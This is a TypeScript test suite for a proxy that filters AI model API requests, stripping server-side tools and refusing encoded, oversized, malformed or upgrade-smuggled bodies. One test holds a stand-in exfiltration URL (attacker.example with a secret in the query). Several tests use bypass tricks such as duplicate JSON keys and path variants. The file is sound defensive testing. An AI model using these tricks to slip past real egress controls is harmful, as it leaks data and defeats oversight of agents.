import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { Agent as HttpAgent, request as httpRequest } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { connect as tlsConnect } from 'node:tls';
import { gzipSync } from 'node:zlib';
import {
  CertificateAuthority,
  filterModelRequest,
  MAX_MODEL_REQUEST,
  type NetworkLogEntry,
  ProxyServer,
  type ProxySession,
  parseAllowlist,
} from '../../src/proxy/index.ts';
import { eventually } from '../harness/gateway-fixture.ts';
import { connectToSession, startUpstream, viaProxy } from '../harness/upstream.ts';

const API = 'api.model.test';
const OTHER = 'other.test.example';

let dir: string;
let ca: CertificateAuthority;
let upstream: Awaited<ReturnType<typeof startUpstream>>;
let session: ProxySession;
const log: NetworkLogEntry[] = [];

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'errand-model-api-'));
  ca = await CertificateAuthority.loadOrCreate(join(dir, 'ca'));
  upstream = await startUpstream(join(dir, 'upstream-ca'), [API, OTHER]);
  const parsed = parseAllowlist(`allow:\n  - host: ${API}\n  - host: ${OTHER}\n`);
  assert.ok(parsed.ok);
  session = new ProxyServer({ ca }).openSession({
    taskId: 't_model',
    allowlist: parsed.allowlist,
    surrogates: [],
    resolve: {
      [API]: `127.0.0.1:${upstream.httpsPort}`,
      [OTHER]: `127.0.0.1:${upstream.httpsPort}`,
    },
    upstreamCa: upstream.caPem,
    log: (e) => log.push(e),
    modelApi: {
      host: API,
      filter: (body) => filterModelRequest(body, { serverTools: [], allowedHosts: [] }),
    },
  });
});
after(async () => {
  await session.close();
  await upstream.close();
  rmSync(dir, { recursive: true, force: true });
});

const WEB_FETCH = { type: 'web_fetch_20250910', name: 'web_fetch' };
const BASH = { name: 'Bash', input_schema: { type: 'object' } };
const MESSAGE = { model: 'm', max_tokens: 10, messages: [{ role: 'user', content: 'hi' }] };

function post(
  path: string,
  body: string | Buffer,
  headers: Record<string, string> = {},
  host = API,
) {
  return viaProxy(session, {
    ca: ca.certPem,
    host,
    method: 'POST',
    path,
    headers: { 'content-type': 'application/json', ...headers },
    body: body as string,
  });
}

/** What the upstream received for the requests sent since `from`. */
function seenSince(from: number) {
  return upstream.seen.slice(from);
}

describe('requests to the model API', () => {
  it('sends on the JSON errand checked, not duplicate tools keys the API might read otherwise', async () => {
    const from = upstream.seen.length;
    // JSON.parse keeps the last "tools"; a parser keeping the first would see only [].
    const raw = `{"model":"m","max_tokens":10,"messages":[],"tools":[],"tools":[${JSON.stringify(WEB_FETCH)}]}`;
    const r = await post('/v1/messages', raw);
    assert.equal(r.status, 200);
    const [seen] = seenSince(from);
    assert.ok(seen, 'the request reached the upstream');
    assert.equal(seen.body.match(/"tools"/g)?.length, 1, seen.body);
    assert.deepEqual(JSON.parse(seen.body).tools, []);
    assert.equal(seen.headers['content-length'], String(Buffer.byteLength(seen.body)));
  });

  it('refuses a gzip-encoded body before anything reaches the upstream', async () => {
    const from = upstream.seen.length;
    const r = await post(
      '/v1/messages',
      gzipSync(JSON.stringify({ ...MESSAGE, tools: [WEB_FETCH] })),
      {
        'content-encoding': 'gzip',
      },
    );
    assert.equal(r.status, 415);
    assert.equal(r.headers['x-errand-block'], 'model_request_encoded');
    assert.equal(JSON.parse(r.body).code, 'model_request_encoded');
    assert.deepEqual(seenSince(from), [], 'nothing reached the upstream');
  });

  it('refuses a body that is not JSON before anything reaches the upstream', async () => {
    const from = upstream.seen.length;
    const r = await post('/v1/messages', 'tools=web_fetch');
    assert.equal(r.status, 400);
    assert.equal(r.headers['x-errand-block'], 'model_request_invalid');
    assert.deepEqual(seenSince(from), []);
  });

  it('refuses a body that is not UTF-8 before anything reaches the upstream', async () => {
    const from = upstream.seen.length;
    const r = await post('/v1/messages', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]));
    assert.equal(r.headers['x-errand-block'], 'model_request_invalid');
    assert.deepEqual(seenSince(from), []);
  });

  it('refuses a body declared larger than the limit without reading it', {
    timeout: 30_000,
  }, async () => {
    const from = upstream.seen.length;
    const r = await post('/v1/messages', '{}', { 'content-length': String(MAX_MODEL_REQUEST + 1) });
    assert.equal(r.status, 413);
    assert.equal(r.headers['x-errand-block'], 'model_request_too_large');
    assert.deepEqual(seenSince(from), []);
  });

  it('refuses a chunked body that grows past the limit, and nothing reaches the upstream', {
    timeout: 60_000,
  }, async () => {
    const from = upstream.seen.length;
    const raw = await connectToSession(session, 443);
    const socket = tlsConnect({ socket: raw, servername: API, ca: ca.certPem });
    const agent = new HttpAgent();
    agent.createConnection = () => socket as never;
    const status = await new Promise<{ status: number; code: unknown }>((resolve, reject) => {
      const req = httpRequest({
        agent,
        method: 'POST',
        path: '/v1/messages',
        headers: { host: API, 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
      });
      req.on('response', (res) => {
        res.resume();
        resolve({ status: res.statusCode ?? 0, code: res.headers['x-errand-block'] });
      });
      req.on('error', reject);
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      let sent = 0;
      const pump = () => {
        while (sent <= MAX_MODEL_REQUEST) {
          sent += chunk.length;
          if (!req.write(chunk)) return req.once('drain', pump);
        }
        req.end();
      };
      req.write('{"a":"');
      pump();
    });
    assert.deepEqual(status, { status: 413, code: 'model_request_too_large' });
    assert.deepEqual(seenSince(from), []);
  });

  it('refuses an image given by URL, which the provider would fetch, before anything reaches the upstream', async () => {
    const from = upstream.seen.length;
    const image = {
      type: 'image',
      source: { type: 'url', url: 'https://attacker.example/?d=secret' },
    };
    const r = await post(
      '/v1/messages',
      JSON.stringify({ ...MESSAGE, messages: [{ role: 'user', content: [image] }] }),
    );
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-errand-block'], 'model_request_url_source');
    assert.match(JSON.parse(r.body).message, /base64/);
    assert.deepEqual(seenSince(from), []);
  });

  it('filters count_tokens, batches and paths the API may route alike', async () => {
    const from = upstream.seen.length;
    const body = JSON.stringify({ ...MESSAGE, tools: [WEB_FETCH, BASH] });
    for (const path of [
      '/v1/messages/count_tokens',
      '/v1/messages?beta=true',
      '/v1//messages',
      '/V1/Messages',
      '/v1/%6dessages',
    ])
      assert.equal((await post(path, body)).status, 200, path);
    const batch = { requests: [{ custom_id: 'a', params: JSON.parse(body) }] };
    assert.equal((await post('/v1/messages/batches', JSON.stringify(batch))).status, 200);
    const seen = seenSince(from);
    assert.equal(seen.length, 6);
    for (const s of seen.slice(0, 5)) assert.deepEqual(JSON.parse(s.body).tools, [BASH], s.url);
    assert.deepEqual(JSON.parse(seen[5]!.body).requests[0].params.tools, [BASH]);
  });

  it('logs what it removed, by tool type', async () => {
    log.length = 0;
    await post('/v1/messages', JSON.stringify({ ...MESSAGE, tools: [WEB_FETCH], mcp_servers: [] }));
    assert.deepEqual(log.at(-1)?.removed, ['mcp_servers', 'web_fetch_20250910']);
  });

  it('sends a model request without server tools unchanged in meaning', async () => {
    const from = upstream.seen.length;
    const body = { ...MESSAGE, stream: true, tools: [BASH], tool_choice: { type: 'auto' } };
    const r = await post('/v1/messages?beta=true', JSON.stringify(body, null, 2));
    assert.equal(r.status, 200);
    const [seen] = seenSince(from);
    assert.deepEqual(JSON.parse(seen!.body), body);
    assert.equal(log.at(-1)?.removed, undefined, 'nothing is logged as removed');
  });

  it('leaves requests to other paths and other hosts byte for byte alone', async () => {
    const from = upstream.seen.length;
    const body = `{"tools":[${JSON.stringify(WEB_FETCH)}],"tools":[]}`;
    await post('/v1/files', body);
    await post('/v1/messages', body, {}, OTHER);
    assert.deepEqual(
      seenSince(from).map((s) => s.body),
      [body, body],
    );
  });

  it('refuses a model API request sent as an upgrade, whose body would go on unchecked once the upstream switches protocols', async () => {
    // An upstream that switches protocols on any upgrade, then records what it receives.
    const upCa = await CertificateAuthority.loadOrCreate(join(dir, 'upgrading-ca'));
    const ctx = await upCa.contextFor(API);
    let received = '';
    const server = createHttpsServer({ SNICallback: (_n, cb) => cb(null, ctx) }, (_q, res) =>
      res.end(),
    );
    server.on('upgrade', (_req, sock: Socket, head: Buffer) => {
      received += head.toString();
      sock.on('data', (c) => {
        received += c;
      });
      sock.on('error', () => undefined);
      sock.write(
        'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
      );
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const parsed = parseAllowlist(`allow:\n  - host: ${API}\n`);
    assert.ok(parsed.ok);
    const s = new ProxyServer({ ca }).openSession({
      taskId: 't_model_upgrade',
      allowlist: parsed.allowlist,
      surrogates: [],
      resolve: { [API]: `127.0.0.1:${(server.address() as AddressInfo).port}` },
      upstreamCa: upCa.certPem,
      log: () => undefined,
      modelApi: {
        host: API,
        filter: (body) => filterModelRequest(body, { serverTools: [], allowedHosts: [] }),
      },
    });
    try {
      const body = JSON.stringify({ ...MESSAGE, tools: [WEB_FETCH] });
      const tls = tlsConnect({
        socket: await connectToSession(s, 443),
        servername: API,
        ca: ca.certPem,
      });
      const closed = new Promise((r) => tls.once('close', r));
      let answer = '';
      tls.on('data', (c) => {
        answer += c;
      });
      tls.on('error', () => undefined);
      // A GET, as a WebSocket handshake must be (a POST upgrade is refused as upgrade_refused
      // before this check), with a body behind it.
      tls.write(
        `GET /v1/messages HTTP/1.1\r\nHost: ${API}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n${body}`,
      );
      await eventually(() => answer.includes('\r\n\r\n'), 'the answer to the upgrade');
      // Whatever the answer, the body must not have reached the upstream as it was sent.
      tls.write(' and more bytes after the switch');
      tls.end();
      await closed;
      assert.doesNotMatch(received, /web_fetch/, 'the unchecked tool reached the upstream');
      assert.match(answer, /^HTTP\/1\.1 400 /);
      assert.match(answer, /x-errand-block: model_request_invalid/);
    } finally {
      await s.close();
      server.closeAllConnections();
      server.close();
    }
  });

  it("refuses a body past the task's budget for bodies read whole, so one task cannot make errand hold gigabytes", async () => {
    const parsed = parseAllowlist(`allow:\n  - host: ${API}\n`);
    assert.ok(parsed.ok);
    const small = new ProxyServer({ ca }).openSession({
      taskId: 't_model_budget',
      allowlist: parsed.allowlist,
      surrogates: [],
      resolve: { [API]: `127.0.0.1:${upstream.httpsPort}` },
      upstreamCa: upstream.caPem,
      log: () => undefined,
      maxBufferedBytes: 1024 * 1024,
      modelApi: {
        host: API,
        filter: (body) => filterModelRequest(body, { serverTools: [], allowedHosts: [] }),
      },
    });
    const send = (body: string) =>
      viaProxy(small, {
        ca: ca.certPem,
        host: API,
        method: 'POST',
        path: '/v1/messages',
        headers: { 'content-type': 'application/json' },
        body,
      });
    try {
      const before = upstream.seen.length;
      const big = JSON.stringify({ ...MESSAGE, system: 'x'.repeat(2 * 1024 * 1024) });
      const r = await send(big);
      assert.equal(r.status, 503, r.body);
      assert.equal(r.headers['x-errand-block'], 'too_much_buffered');
      assert.equal(upstream.seen.length, before, 'nothing reached the API');
      // The refused read gave its bytes back: a request within the budget goes on.
      const ok = await send(JSON.stringify(MESSAGE));
      assert.equal(ok.status, 200, ok.body);
    } finally {
      await small.close();
    }
  });
});
